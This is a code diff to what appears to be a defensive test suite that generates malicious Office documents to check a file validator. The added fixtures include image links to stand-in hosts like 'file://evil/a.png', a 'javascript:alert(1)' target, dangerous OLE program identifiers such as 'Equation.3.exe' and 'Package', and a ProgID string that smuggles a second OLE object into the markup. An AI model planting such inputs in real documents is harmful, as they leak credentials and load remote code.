@@ -7,6 +7,7 @@ from collections.abc import Iterator
 
 from pypdf import PdfReader, PdfWriter
 
+from tests.formats.honest import with_formula
 from tests.formats.making import (
     SHEET,
     WORD,
@@ -131,6 +132,9 @@ def offices() -> Files:
         "template-of-a-server": relation("attachedTemplate", "file://evil/t.dotm"),
         "template-by-name": relation("attachedTemplate", "\\\\evil\\c$\\t.dotm"),
         "picture": relation("image", "\\\\evil\\a.png"),
+        "picture-of-a-server": relation("image", "file://evil/a.png"),
+        "picture-by-script": relation("image", "javascript:alert(1)"),
+        "picture-on-a-drive-of-a-server": relation("image", "file:////evil/c$/a.png"),
         "object": relation("oleObject", "http://evil.example/a.html!"),
         "frame": relation("frame", "http://evil.example/"),
         "entity": relation("attachedTemplate", "http://evil.example/t", ' TargetMode="&#69;xternal"'),
@@ -231,6 +235,10 @@ def _packages() -> Files:
         "bomb": {"x/a.xml": b"0" * 50_000_000}, "many": {f"x/{n}.xml": b"" for n in range(2001)},
     }.items():  # fmt: skip
         yield f"{name}.docx", office(parts=parts)
+    for program in ("Package", "Excel.Sheet.8", "Equation.3.exe", "htmlfile"):
+        yield f"{program}.docx", with_formula(program)
+    yield "formula-program.docx", with_formula("Equation.3", PROGRAM)
+    yield "formula-shared.docx", with_formula('Equation.3" x:id="rId1"/><o:OLEObject ProgID="Package')
     yield "method.docx", zipped({"[Content_Types].xml": types(WORD)}, zipfile.ZIP_BZIP2)
     locked = bytearray(office())
     central = locked.index(b"PK\x01\x02")
